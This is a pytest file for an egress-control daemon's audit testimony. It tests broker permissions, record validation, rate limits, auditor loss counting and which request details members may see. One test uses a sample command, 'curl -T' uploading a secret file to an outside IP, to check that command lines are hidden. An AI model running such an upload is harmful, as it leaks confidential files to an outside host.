"""What brokers put on record: who may, what, when, how much; and what others of a workspace learn of it."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

import msgspec
import pytest
from controller_lab import Client, World, world

from egressd.ipc import messages
from egressd.ipc.channel import pair
from egressd.journal import testimony
from egressd.model.errors import Refused
from egressd.model.identities import Link
from egressd.processes import testifying
from egressd.processes.members import Caller
from egressd.processes.ritual import Auditing
from egressd.processes.testifying import BURST, PER_SECOND, Said

POLICY = """\
guard: enforce
members: [user:4001, user:4003]
allow:
  - {host: api.test, ports: [8080/tcp]}
"""
OTHERS = POLICY.replace("4001", "4002").replace("4003", "4004")
BROKER, MEMBER = 4001, 4003
R1, R2 = "r-" + "a1" * 13, "r-" + "b2" * 13
DIGEST = "sha256:" + "ab" * 32
ASKED = {"request": R1, "asker": "user:okta:00u1", "email": "ann@acme.test", "discarded": 3467173467}
DECIDED = {
    "request": R1, "role": "viewer", "action": "summarise", "cleared": 298173298, "manifest": DIGEST,
    "octets": 9000, "network": "policy",
}  # fmt: skip
ENDED = {
    "request": R1,
    "status": 0,
    "why": "",
    "hit": "",
    "destroyed": True,
    "files": 298173298,
    "seconds": 1.5,
}
Dialogue = Callable[[World], Coroutine[Any, Any, None]]


def play(directory: Path, dialogue: Dialogue, *, brokers: tuple[str, ...] | None = (str(BROKER),)) -> None:
    async def scene() -> None:
        async with world(directory, acme=POLICY, rival=OTHERS) as made:
            made.controller.config = msgspec.structs.replace(made.controller.config, brokers=brokers)
            await made.start()
            made.serve()
            await dialogue(made)

    asyncio.run(scene())


async def entered(w: World, callers: list[int], uid: int = BROKER) -> Client:
    callers.append(uid)
    client = w.client()
    client.say(messages.Enter(workspace="acme"))
    assert isinstance(await client.hear(), messages.Terms)
    return client


async def attached(w: World, callers: list[int], uid: int = BROKER) -> tuple[Client, str]:
    callers.append(uid)
    client = w.client()
    return client, f"eg{(await client.spawn()).link}"


async def says(client: Client, event: str, fields: dict[str, Any]) -> str:
    """ "recorded", or the reason of the refusal and its text."""
    client.say(messages.Testify(event=event, fields=fields))  # type: ignore[arg-type]
    answer = await client.hear()
    return "recorded" if isinstance(answer, messages.Recorded) else f"{answer.reason}: {answer.text}"


# ---- what is recorded


def test_a_request_is_recorded_with_what_the_controller_knows(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        broker, link = await attached(w, callers)
        files = {"request": R1, "part": 1, "parts": 1, "files": f"a:b.md {DIGEST}\na:c.md {DIGEST}"}
        for event, fields in (
            ("request-asked", ASKED), ("request-decided", DECIDED), ("request-files", files),
            ("request-ended", ENDED),
        ):  # fmt: skip
            assert await says(broker, event, fields) == "recorded"
        own = {"workspace": "acme", "broker_uid": BROKER, "link": link, "boot": w.controller.boot}
        assert w.records("request-asked") == [{**ASKED, **own}]
        assert w.records("request-decided") == [{**DECIDED, **own}]
        assert w.records("request-files") == [{**files, **own}]
        assert w.records("request-ended") == [{**ENDED, **own}]
        broker.close()
        await w.settle()
        order = [what for what in w.order() if what.startswith("journal")]
        assert order == [
            "journal sandbox-opening", "journal request-asked", "journal request-decided",
            "journal request-files", "journal request-ended", "journal sandbox-closed",
        ]  # fmt: skip

    play(tmp_path, dialogue)


def test_what_is_of_no_sandbox_is_recorded_without_one(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        broker = await entered(w, callers)
        said = {
            "request-refused": {"request": R1, "asker": "user:okta:00u1", "code": 404, "text": "no"},
            "access-changed": {"what": "member add", "by": "user:okta:00u2"},
            "documents-ingested": {"source": "handbook", "added": 3},
            "leftovers-removed": {"count": 2, "where": "/var/tmp/x"},
            "request-ended": ENDED,
        }
        for event, fields in said.items():
            assert await says(broker, event, fields) == "recorded"
            assert w.records(event) == [{**fields, "workspace": "acme", "broker_uid": BROKER}]
        broker.close()

    play(tmp_path, dialogue)


def test_root_may_speak_too_where_it_is_a_member(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        w.write("acme", POLICY.replace("user:4003", "user:0"))
        root = w.client()
        await root.ask(messages.Apply())
        root.say(messages.Enter(workspace="acme"))
        assert isinstance(await root.hear(), messages.Terms)
        assert await says(root, "documents-ingested", {"source": "a"}) == "recorded"
        root.close()

    play(tmp_path, dialogue, brokers=())


# ---- what is not


def test_nobody_else_puts_anything_on_record(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        member = await entered(w, callers, MEMBER)
        text = await says(member, "documents-ingested", {"source": "a"})
        assert text.startswith("member: uid 4003 is no broker") and "`brokers:` in egressd.yaml" in text
        attached_member, _ = await attached(w, callers, MEMBER)
        assert (await says(attached_member, "request-decided", DECIDED)).startswith("member: ")
        w.controller.control.testifying.close()
        assert not any(w.records(event) for event in testimony.EVENTS)
        (refused,) = w.records("testimony-refused")
        told = refused.pop("text")
        assert told.startswith("uid 4003 is no broker")
        assert refused == {
            "uid": MEMBER, "reason": "member", "pid": 100, "workspace": "acme", "told": "documents-ingested",
            "count": 2,
        }  # fmt: skip
        assert w.controller.control.testifying.refusals == {"member": 2}
        for client in (member, attached_member):
            client.close()

    play(tmp_path, dialogue)


@pytest.mark.parametrize("brokers", [(), None], ids=["an empty list", "no such account"])
def test_where_there_is_no_broker_nobody_is_one(
    tmp_path: Path, callers: list[int], brokers: tuple[str, ...] | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("egressd.processes.config._BROKER", "no-such-account-here")

    async def dialogue(w: World) -> None:
        client = await entered(w, callers)
        assert (await says(client, "documents-ingested", {"source": "a"})).startswith("member: ")
        client.close()

    play(tmp_path, dialogue, brokers=brokers)


def test_a_broker_speaks_of_a_workspace_it_has_entered_and_is_still_a_member_of(
    tmp_path: Path, callers: list[int]
) -> None:
    async def dialogue(w: World) -> None:
        callers.append(BROKER)
        broker = w.client()
        assert (await says(broker, "leftovers-removed", {"count": 1})).startswith("protocol: ")
        broker.say(messages.Enter(workspace="rival"))
        assert (await broker.hear()).reason == "member"
        assert (await says(broker, "leftovers-removed", {"count": 1})).startswith("protocol: ")
        broker.say(messages.Enter(workspace="acme"))
        assert isinstance(await broker.hear(), messages.Terms)
        w.write("acme", POLICY.replace("user:4001, ", ""))
        await w.client().ask(messages.Apply())
        assert (await says(broker, "leftovers-removed", {"count": 1})).startswith("member: ")
        assert w.records("leftovers-removed") == []
        broker.close()

    play(tmp_path, dialogue)


@pytest.mark.parametrize(
    ("event", "fields"),
    [
        ("request-asked", {**ASKED, "workspace": "rival"}),
        ("request-asked", {**ASKED, "link": "eg1"}),
        ("request-asked", {**ASKED, "boot": "x"}),
        ("request-asked", {**ASKED, "broker_uid": 0}),
        ("documents-ingested", {"source": "a", "workspace": "rival"}),
        ("request-asked", {**ASKED, "request": "r-1"}),
        ("request-asked", {"request": R1}),
        ("request-asked", {**ASKED, "Odd": 1}),
        ("request-asked", {**ASKED, "cut_fields": 1}),
        ("request-files", {"request": R1, **{f"f{n}": "\U0001f600" * 4096 for n in range(2)}}),
        ("request-decided", {**DECIDED, "asker": "user:okta:00u1"}),
        ("request-decided", {**DECIDED, "discarded": 3467173467}),
        ("request-decided", {**DECIDED, "cleared": -1}),
        ("request-decided", {**DECIDED, "cleared": True}),
        ("request-decided", {**DECIDED, "action": "x\ny"}),
        ("request-decided", {**DECIDED, "network": "some"}),
        ("request-decided", {k: v for k, v in DECIDED.items() if k != "manifest"}),
        ("request-ended", {**ENDED, "email": "ann@acme.test"}),
        ("request-ended", {**ENDED, "destroyed": 1}),
        ("request-ended", {k: v for k, v in ENDED.items() if k != "destroyed"}),
    ],
    ids=str,
)
def test_what_a_record_may_not_say_is_refused(
    tmp_path: Path, callers: list[int], event: str, fields: dict[str, Any]
) -> None:
    async def dialogue(w: World) -> None:
        broker, _ = await attached(w, callers)
        assert (await says(broker, event, fields)).startswith("protocol: ")
        assert w.records(event) == []
        assert await says(broker, "request-asked", ASKED) == "recorded", "and nothing is the matter with it"
        broker.close()

    play(tmp_path, dialogue)


def test_no_other_event_can_be_said_at_all(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        for event in ("sandbox-closed", "policy-changed", "denied", "key-rotated", "testimony-refused"):
            broker, _ = await attached(w, callers)
            broker.say(
                msgspec.structs.replace(messages.Testify(event="request-asked", fields=ASKED), event=event)
            )
            for _ in range(1000):
                if broker.peer.closed:
                    break
                await asyncio.sleep(0.005)
            assert broker.peer.closed, "not a well-formed message"
        told = [fields for who, what, fields in w.told if who == "journal" and "asker" in fields]
        assert told == []

    play(tmp_path, dialogue)


def test_a_sandbox_is_of_one_request_decided_once_over_its_own_connection(
    tmp_path: Path, callers: list[int]
) -> None:
    async def dialogue(w: World) -> None:
        elsewhere = await entered(w, callers)
        assert (await says(elsewhere, "request-decided", DECIDED)).startswith("protocol: ")
        assert (await says(elsewhere, "request-asked", ASKED)).startswith("protocol: ")
        broker, _ = await attached(w, callers)
        assert await says(broker, "request-decided", DECIDED) == "recorded"
        assert (await says(broker, "request-decided", DECIDED)).startswith("protocol: ")
        assert (await says(broker, "request-files", {"request": R2})).startswith("protocol: ")
        assert (await says(broker, "request-ended", {**ENDED, "request": R2})).startswith("protocol: ")
        assert await says(broker, "request-ended", ENDED) == "recorded"
        assert (await says(broker, "request-ended", {**ENDED, "status": 1})).startswith("protocol: ")
        assert len(w.records("request-decided")) == len(w.records("request-ended")) == 1
        for client in (broker, elsewhere):
            client.close()

    play(tmp_path, dialogue)


@pytest.mark.parametrize("closed", [True, False])
def test_whether_there_is_a_network_is_known_here(
    tmp_path: Path, callers: list[int], *, closed: bool
) -> None:
    async def dialogue(w: World) -> None:
        callers.append(BROKER)
        broker = w.client()
        await broker.spawn(closed=closed)
        right, wrong = ("none", "policy") if closed else ("policy", "none")
        assert (await says(broker, "request-decided", {**DECIDED, "network": wrong})).startswith("protocol: ")
        assert await says(broker, "request-decided", {**DECIDED, "network": right}) == "recorded"
        broker.close()

    play(tmp_path, dialogue)


def test_a_decision_comes_before_anything_is_let_out(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        broker, _ = await attached(w, callers)
        w.last_counters = {"in": (3, 300), "ok": (1, 60), "denied": (2, 240)}
        text = await says(broker, "request-decided", DECIDED)
        assert text.startswith("protocol: 1 packets of this sandbox were let out")
        w.last_counters = {"in": (2, 240), "denied": (2, 240)}
        assert (await says(broker, "request-decided", DECIDED)).startswith("protocol: "), "asked once"
        assert w.records("request-decided") == []
        assert len(w.of(messages.ReadLink)) == 1
        other, _ = await attached(w, callers)
        assert await says(other, "request-decided", DECIDED) == "recorded", "what was denied has not left"
        for client in (broker, other):
            client.close()

    play(tmp_path, dialogue)


def test_nothing_is_put_on_record_for_somebody_else(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        root = w.client()
        root.say(messages.ForUser(uid=BROKER, gids=()))
        assert (await says(root, "leftovers-removed", {"count": 1})).startswith("protocol: ")
        assert w.records("leftovers-removed") == []
        root.close()

    play(tmp_path, dialogue)


# ---- how much, and what if nobody takes it


class Unserved:
    """A controller as far as `Testifying` needs one, whose auditor reads nothing until it is told to."""

    def __init__(self) -> None:
        ours, self.theirs = pair()
        self.auditing = Auditing.over("controller", ours)
        self.boot = "5f3c0a1b"
        self.config = type("Config", (), {"is_broker": staticmethod(lambda uid: uid == BROKER)})

    def close(self) -> None:
        self.theirs.close()
        assert self.auditing.channel is not None
        self.auditing.channel.close()

    def read(self) -> list[Any]:
        self.theirs.setblocking(False)
        found = []
        while True:
            try:
                found.append(msgspec.json.decode(self.theirs.recv(1 << 17)))
            except BlockingIOError:
                return found


async def heard(
    made: testifying.Testifying, event: str = "documents-ingested", uid: int = BROKER, **fields: Any
) -> str:
    message = messages.Testify(event=event, fields=fields or {"source": "a"})  # type: ignore[arg-type]
    caller = Caller(1, uid, frozenset())
    try:
        await made.hear(message, caller=caller, workspace="acme", sandbox=None, said=Said())
    except Refused as refused:
        return refused.reason.value
    return "recorded"


def test_an_account_has_so_many_records_a_second_and_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    async def dialogue() -> None:
        controller, now = Unserved(), [100.0]
        made = testifying.Testifying(controller, later=lambda *_: None, clock=lambda: now[0])  # type: ignore[arg-type]
        monkeypatch.setattr(Auditing, "offer", lambda self, message: True)
        assert PER_SECOND >= 2 * 10 * 40
        assert [await heard(made) for _ in range(BURST + 1)] == ["recorded"] * BURST + ["limit"]
        assert await heard(made, uid=0) == "recorded", "another account has its own"
        now[0] += 0.5
        half = PER_SECOND // 2
        assert [await heard(made) for _ in range(half + 1)] == ["recorded"] * half + ["limit"]
        now[0] += 3600
        assert [await heard(made) for _ in range(BURST + 1)][-2:] == ["recorded", "limit"]
        assert made.refusals == {"limit": 3}
        controller.close()

    asyncio.run(dialogue())


def test_a_long_record_counts_as_several(monkeypatch: pytest.MonkeyPatch) -> None:
    async def dialogue() -> None:
        controller = Unserved()
        made = testifying.Testifying(controller, later=lambda *_: None, clock=lambda: 100.0)  # type: ignore[arg-type]
        monkeypatch.setattr(Auditing, "offer", lambda self, message: True)
        long = {f"f{n}": "\x01" * 4000 for n in range(2)}  # 48,000 bytes as they are written
        answers = [await heard(made, **long) for _ in range(BURST // 6 + 1)]
        assert answers == ["recorded"] * (BURST // 6) + ["limit"]
        assert await heard(made) == "recorded", "there was room for a short one"
        files = "\n".join(f"handbook:{n:04}.md {DIGEST}" for n in range(45))
        full = {"request": R1, "part": 1, "parts": 1, "files": files}
        assert len(files) > 4000
        other = [await heard(made, "request-files", uid=0, **full) for _ in range(BURST + 1)]
        assert other == ["recorded"] * BURST + ["limit"], "a part of a list is one"
        controller.close()

    asyncio.run(dialogue())


@pytest.mark.parametrize("down", [False, True], ids=["its queue is full", "it is down"])
def test_an_auditor_that_takes_nothing_keeps_nobody_and_the_loss_is_counted(
    *, down: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(testifying, "_PATIENCE", 0.05)

    async def dialogue() -> None:
        controller = Unserved()
        due: list[Callable[[], None]] = []
        made = testifying.Testifying(controller, later=lambda _, what: due.append(what))  # type: ignore[arg-type]
        if down:
            controller.theirs.close()
        said, began = 200, asyncio.get_running_loop().time()
        assert [await heard(made, source="x" * 4000) for _ in range(said)] == ["recorded"] * said
        assert asyncio.get_running_loop().time() - began < 10, "waited for once, and not for each"
        (tell,) = due
        tell()
        if down:
            assert controller.auditing.lost == said
        else:
            *events, losses = controller.read()
            assert 10 < len(events) < said
            assert {each["event"] for each in events} == {"documents-ingested"}
            assert losses == {"type": "Losses", "process": "controller", "count": said - len(events)}
            assert await heard(made) == "recorded"
            (event,) = controller.read()
            assert event["fields"] == {"source": "a", "workspace": "acme", "broker_uid": BROKER}
            assert controller.auditing.lost == 0
        controller.close()

    asyncio.run(dialogue())


def test_who_says_too_much_leaves_others_their_patience(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(testifying, "_PATIENCE", 0.0)
    looks = itertools.count(1)
    monkeypatch.setattr(Auditing, "offer", lambda self, message: next(looks) % 5 == 0)

    async def dialogue() -> None:
        controller = Unserved()
        made = testifying.Testifying(controller, later=lambda *_: None)  # type: ignore[arg-type]
        assert await heard(made) == "recorded"
        made._tell_lost()
        assert controller.auditing.lost == 0 and controller.read()[-1]["count"] == 1
        monkeypatch.setattr(testifying, "_PATIENCE", 30.0)
        assert await heard(made, uid=0) == "recorded"
        made._tell_lost()
        assert controller.read() == [], "it waited, and nothing was lost"
        controller.close()

    asyncio.run(dialogue())


def test_half_of_the_way_to_the_auditor_stays_free_for_those_who_cannot_wait(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(testifying, "_PATIENCE", 0.05)

    async def dialogue() -> None:
        controller = Unserved()
        made = testifying.Testifying(controller, later=lambda *_: None)  # type: ignore[arg-type]
        for _ in range(1000):
            assert await heard(made, source="x" * 4000) == "recorded"
        for _ in range(100):
            controller.auditing.record("sandbox-opening", {"link": "eg1"})
        assert controller.auditing.lost == 0
        made.close()
        assert controller.read()[-1]["count"] > 900
        controller.close()

    asyncio.run(dialogue())


# ---- who learns what


def test_the_receipt_of_a_request_is_the_brokers_and_roots(tmp_path: Path, callers: list[int]) -> None:
    async def dialogue(w: World) -> None:
        broker, link = await attached(w, callers)
        plain, other = await attached(w, callers, MEMBER)
        assert await says(broker, "request-decided", DECIDED) == "recorded"
        for client in (broker, plain):
            client.close()
        await w.settle()

        async def asks(uid: int, sandbox: str, *, behalf: bool = False) -> str:
            callers.append(0 if behalf else uid)
            client = w.client()
            if behalf:
                client.say(messages.ForUser(uid=uid, gids=()))
            answer = await client.ask(messages.Prove(workspace="acme", link=int(sandbox[2:])))
            client.close()
            return answer.text if isinstance(answer, messages.Refusal) else "proved"

        assert await asks(BROKER, link) == await asks(0, link) == "proved"
        hidden = await asks(MEMBER, link)
        assert hidden == (await asks(MEMBER, "eg99")).replace("eg99", link), "as if there had been none"
        assert await asks(MEMBER, link, behalf=True) == hidden
        assert [await asks(uid, other) for uid in (BROKER, MEMBER, 0)] == ["proved"] * 3

    play(tmp_path, dialogue)


def test_who_asked_for_a_receipt_before_the_request_began_is_not_given_it(
    tmp_path: Path, callers: list[int]
) -> None:
    async def dialogue(w: World) -> None:
        broker, link = await attached(w, callers)
        callers.append(MEMBER)
        member = w.client()
        member.say(messages.Prove(workspace="acme", link=int(link[2:])))
        await asyncio.sleep(0.05)  # it waits for the sandbox's end
        assert await says(broker, "request-decided", DECIDED) == "recorded"
        broker.close()
        answer = await member.hear()
        assert isinstance(answer, messages.Refusal)
        assert f"has or had the link {link}" in answer.text
        assert not w.of(messages.MakeProof)
        member.close()

    play(tmp_path, dialogue)


def test_command_lines_of_a_request_are_not_for_members(tmp_path: Path, callers: list[int]) -> None:
    claim = messages.Attempt(
        protocol="tcp",
        destination="192.0.2.1",
        port=443,
        pid=7,
        executable="/usr/bin/curl",
        command="curl -T /work/handbook/secret.md https://192.0.2.1",
    )

    async def dialogue(w: World) -> None:
        plain, _ = await attached(w, callers)
        broker, link = await attached(w, callers)
        assert await says(broker, "request-asked", ASKED) == "recorded"
        for client in (plain, broker):
            client.say(claim)
            client.close()
        await w.settle()
        told = {fields["link"] == link: fields for fields in w.records("attempt")}
        assert told[False]["command"] == claim.command
        assert (told[True]["command"], told[True]["executable"]) == ("", "/usr/bin/curl")

    play(tmp_path, dialogue)


@pytest.mark.parametrize("what", ["status", "counters", "ruleset", "policy", "diff", "workspaces"])
def test_nothing_a_member_asks_the_controller_tells_of_requests(
    tmp_path: Path, callers: list[int], what: str
) -> None:
    async def dialogue(w: World) -> None:
        broker, _ = await attached(w, callers)
        before = await answer(w, callers, what)
        for event, fields in (
            ("request-asked", ASKED),
            ("request-decided", DECIDED),
            ("request-ended", ENDED),
        ):
            assert await says(broker, event, fields) == "recorded"
        assert await says(broker, "leftovers-removed", {"count": 7717377173}) == "recorded"
        after = await answer(w, callers, what)
        assert shape(before) == shape(after)
        text = str(after)
        for told in (
            R1,
            "00u1",
            "ann@",
            "3467173467",
            "298173298",
            DIGEST,
            "viewer",
            "summarise",
            "7717377173",
        ):
            assert told not in text, told
        broker.close()

    async def answer(w: World, callers: list[int], what: str) -> Any:
        callers.append(MEMBER)
        client = w.client()
        found = await client.ask(messages.Ask(what=what))  # type: ignore[arg-type]
        client.close()
        return found

    def shape(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: shape(each) for key, each in value.items()}
        return [shape(each) for each in value] if isinstance(value, list) else type(value)

    play(tmp_path, dialogue)


def test_metrics_tell_what_became_of_requests_and_not_what_was_left_out(
    tmp_path: Path, callers: list[int]
) -> None:
    async def dialogue(w: World) -> None:
        for name, end in (("c", {}), ("d", {"status": 3}), ("e", {"why": "wall", "destroyed": False})):
            broker, _ = await attached(w, callers)
            request = {"request": "r-" + name * 26}
            assert await says(broker, "request-asked", {**ASKED, **request}) == "recorded"
            assert await says(broker, "request-decided", {**DECIDED, **request}) == "recorded"
            assert await says(broker, "request-ended", {**ENDED, **request, **end}) == "recorded"
            broker.close()
        broker = await entered(w, callers)
        refused = {"request": R2, "asker": "user:okta:00u1"}
        assert await says(broker, "request-refused", refused) == "recorded"
        assert await says(broker, "leftovers-removed", {"count": 4}) == "recorded"
        assert (await says(broker, "request-refused", {"request": "r"})).startswith("protocol")
        document = await w.client().ask(messages.Ask(what="metrics"))
        none = {"outcomes": {}, "documents": 0, "undestroyed": 0, "leftovers": 0}
        assert document["requests"] == {
            "workspaces": {
                "acme": {
                    "outcomes": {"done": 1, "failed": 1, "stopped": 1, "refused": 1},
                    "documents": 3 * 298173298,
                    "undestroyed": 1,
                    "leftovers": 4,
                },
                "rival": none,
            },
            "refused": {"protocol": 1},
        }
        broker.close()

    play(tmp_path, dialogue)


def test_a_link_is_remembered_for_as_long_as_it_may_be_asked_about(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(testifying, "_REMEMBERED", 2)
    controller = Unserved()
    made = testifying.Testifying(controller, later=lambda *_: None)  # type: ignore[arg-type]
    for number in (1, 2, 3):
        sandbox = type("S", (), {"link": Link(number), "caller": Caller(1, BROKER, frozenset())})
        made._keep_private(sandbox)  # type: ignore[arg-type]
    assert [made.may_see_receipt(Link(n), MEMBER) for n in (1, 2, 3)] == [True, False, False]
    controller.close()
